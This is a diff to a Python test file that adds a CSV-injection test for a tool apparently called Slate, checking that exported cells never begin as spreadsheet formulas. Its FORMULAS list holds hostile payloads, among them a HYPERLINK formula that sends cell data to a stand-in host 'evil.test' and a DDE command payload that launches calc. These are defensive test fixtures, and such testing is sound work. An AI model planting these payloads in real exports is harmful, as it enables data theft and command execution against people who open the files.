@@ -3,6 +3,9 @@ refusal; bad rows never stop good ones; rows written out and read back are the s
 
 from __future__ import annotations
 
+import csv
+import io
+
 import string
 
 import pytest
@@ -447,6 +450,13 @@ TRICKY = [
     "[Push in]",
     "|",
     ">",
+    # formula starts a spreadsheet app would run (written behind a ', read back without it)
+    "=",
+    "+",
+    "-",
+    "@",
+    "'=",
+    "''@",
 ]
 prompts = (
     st.lists(
@@ -585,3 +595,37 @@ def test_the_csv_writer_puts_a_bom_for_spreadsheets_and_only_used_columns():
     assert data.startswith(b"\xef\xbb\xbf")
     assert data.decode("utf-8-sig").splitlines()[0] == "request_id,kind,prompt"
     assert COLUMNS.index("request_id") < COLUMNS.index("kind") < COLUMNS.index("prompt")
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.test/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+twice",
+    "'plain apostrophe",
+]
+
+
+@pytest.mark.parametrize("prompt", FORMULAS)
+def test_csv_cells_never_start_a_formula_and_read_back_exactly(prompt):
+    """OWASP CSV injection: a prompt, lyrics, text or RequestId beginning with = + - @ (or tab,
+    CR) is written behind a ' that spreadsheet apps take as "text"; Slate reads it back as
+    written (issue 32)."""
+    rid = "-lead:20261202:tide-eye:scene-01"
+    rows = [
+        ShotRow(1, 1, rid, "music", {"prompt": prompt, "lyrics": prompt, "seed": 7}),
+        ShotRow(2, 2, RID1, "speech", {"text": prompt, "pitch": -3, "voice": "@voice"}),
+    ]
+    text = write_csv(rows)
+    for cells in list(csv.reader(io.StringIO(text, newline="")))[1:]:
+        for cell in cells:
+            if cell.lstrip("-").isdigit():
+                continue  # a number is never a formula
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    back = parse(write(rows, "csv"), "csv")
+    assert back.errors == ()
+    assert inputs(back.rows) == inputs(rows)
